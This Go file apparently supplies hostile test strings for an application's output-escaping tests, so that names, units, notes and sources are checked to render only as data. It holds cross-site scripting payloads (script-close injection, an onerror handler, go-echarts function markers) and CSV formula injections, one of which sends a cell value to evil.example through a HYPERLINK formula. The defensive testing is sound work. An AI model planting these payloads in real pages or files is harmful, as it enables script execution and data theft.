// Package hostile is the one list of hostile strings the tests put wherever the database holds text (names,
// units, sources, notes, quotes, documents): every output must carry them as data, never run them. It is
// plain data, importable from the tests of pure packages.
package hostile

const (
	// Markup closes a script element, runs code three ways (a script, an event handler, go-echarts' function
	// markers); any execution sets window.__pwned.
	Markup = `</script><script>window.__pwned=1</script><img src=x onerror="window.__pwned=2">__f__function(){window.__pwned=3}__f__`
	// Script closes a script element and opens another.
	Script = `</script><script>alert(1)</script>`
	// Formula is a spreadsheet formula that a CSV cell must not start (formula injection).
	Formula = `=HYPERLINK("http://x","click")`
	// Markers are go-echarts' function markers, which its renderers turn into code.
	Markers = `__f__alert(3)__f__`
	// Combined is all of them in one string a seed file could carry into any name, unit, note or source: it
	// starts with a spreadsheet formula, closes a script, adds an element with a handler, carries function
	// markers, and holds the characters CSV and JSON must quote (quotes, a comma, a line break).
	Combined = `=HYPERLINK("https://evil.example/?"&A1,"x")</script><script>alert('stored')</script><img src=x onerror=alert(2)>__f__function(){alert(3)}__f__ "q",c;` + "\n" + `'end`
)

// All are the hostile strings, for tests that try each.
func All() []string { return []string{Markup, Script, Formula, Markers, Combined} }
